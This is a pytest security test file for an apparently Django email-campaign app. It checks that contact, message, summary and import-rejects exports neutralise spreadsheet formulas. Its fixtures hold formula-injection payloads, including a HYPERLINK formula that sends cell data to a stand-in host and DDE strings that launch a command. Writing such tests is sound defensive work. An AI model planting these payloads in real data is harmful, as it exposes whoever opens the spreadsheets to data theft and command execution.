"""No exported cell can run a formula: every download (contacts CSV and XLSX, Sent emails,
Recipients, the campaign summary, a background export job, an import's rejects file) is
opened and every cell starting with =, +, -, @ (or a tab or carriage return hiding one) is a
failure, as is any cell openpyxl reads as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from campaigns import exports
from campaigns.models import ExportJob, Message
from leadcenter.factories import ContactListFactory, MessageFactory, TopicFactory, UserFactory
from leadcenter.spreadsheets import FORMULA_TRIGGERS
from tests.security.conftest import body, contacts_export
from tracking.models import Rejection

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.fixture
def formula_world(manager_user):
    owner = UserFactory(username="+owner", first_name="=cmd|' /C calc'!A0", last_name="-1+1")
    message = MessageFactory(
        recipient__email="=evil@example.test",
        recipient__contact__email="=evil@example.test",
        recipient__contact__first_name=EVIL,
        recipient__contact__last_name="+SUM(1,2)",
        recipient__contact__company="@SUM(1+1)*cmd|' /C calc'!A0",
        recipient__contact__owner=owner,
        recipient__run__campaign__name="-2+3+cmd|' /C calc'!A0",
        recipient__run__campaign__topic=TopicFactory(name="=topic"),
        recipient__account__name="\t=account",
        status=Message.Status.BOUNCED,
        smtp_code=550,
        smtp_status="5.1.1",
        smtp_response="=550 5.1.1 user unknown",
    )
    message.recipient.contact.lists.add(ContactListFactory(name="@list"))
    Rejection.objects.create(
        message=message,
        email=message.recipient.email,
        kind=Rejection.Kind.HARD,
        category=Rejection.Category.USER_NOT_FOUND,
        smtp_code=550,
        smtp_status="5.1.1",
        diagnostic='=HYPERLINK("x")',
        source="smtp",
    )
    job = ExportJob.objects.create(kind="messages", query="", total=1, requested_by=manager_user)
    exports.export_job_run(job.pk)
    return {"message": message, "job": job}


def cells(data: bytes) -> list[tuple[str, object]]:
    """(where, value) of every cell of an XLSX or CSV file."""
    found = []
    if data[:2] == b"PK":
        workbook = load_workbook(io.BytesIO(data))  # not read-only: cell.data_type is exact
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        found.append((f"{sheet.title}!{cell.coordinate} (formula)", "=" + "?"))
                    found.append((f"{sheet.title}!{cell.coordinate}", cell.value))
    else:
        text = data.decode("utf-8-sig")
        for r, row in enumerate(csv.reader(io.StringIO(text)), start=1):
            for c, value in enumerate(row, start=1):
                found.append((f"row {r} column {c}", value))
    return found


def assert_no_formula(data: bytes, name: str) -> int:
    checked = 0
    for where, value in cells(data):
        if isinstance(value, str):
            checked += 1
            assert not value.startswith(FORMULA_TRIGGERS), f"{name} {where}: {value!r}"
        assert not where.endswith("(formula)"), f"{name} {where}"
    return checked


def test_no_download_has_a_cell_that_runs_a_formula(manager_client, formula_world):
    campaign = formula_world["message"].run.campaign
    downloads = {
        "contacts CSV": contacts_export(manager_client, "csv"),
        "contacts XLSX": contacts_export(manager_client, "xlsx"),
        "sent emails": manager_client.get(reverse("admin:campaigns_message_export")),
        "recipients": manager_client.get(reverse("admin:campaigns_recipient_export")),
        "summary": manager_client.get(
            reverse("admin:campaigns_campaign_summary_export", args=[campaign.pk])
        ),
        "export job": manager_client.get(
            reverse("admin:campaigns_exportjob_download", args=[formula_world["job"].pk])
        ),
    }
    for name, response in downloads.items():
        assert response.status_code == 200, name
        data = body(response)
        checked = assert_no_formula(data, name)
        assert checked > 5, name
        # The dangerous values are there, as text: neutralised, not dropped.
        assert "HYPERLINK" in data.decode("utf-8", "replace") or data[:2] == b"PK", name


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_imports_rejects_file_has_no_cell_that_runs_a_formula(superuser_client, extension):
    rows = [
        ["email", "first_name", "last_name", "company"],
        ["not-an-address", EVIL, "+1+1", "@SUM(1)"],
        ["=bad", "-2+3", "\t=x", "\r=y"],
    ]
    if extension == "csv":
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        data = buffer.getvalue().encode()
    else:
        from openpyxl import Workbook

        workbook = Workbook()
        for row in rows:
            workbook.active.append(row)
        out = io.BytesIO()
        workbook.save(out)
        data = out.getvalue()
    upload = SimpleUploadedFile(f"people.{extension}", data)
    response = superuser_client.post(
        reverse("admin:contacts_contact_import"),
        {"import_file": upload, "format": "0" if extension == "csv" else "1", "resource": "0"},
    )
    assert response.status_code == 200
    rejects_url = response.context["rejects_url"]

    rejects = superuser_client.get(rejects_url)

    assert rejects.status_code == 200
    assert assert_no_formula(body(rejects), "rejects") >= 8
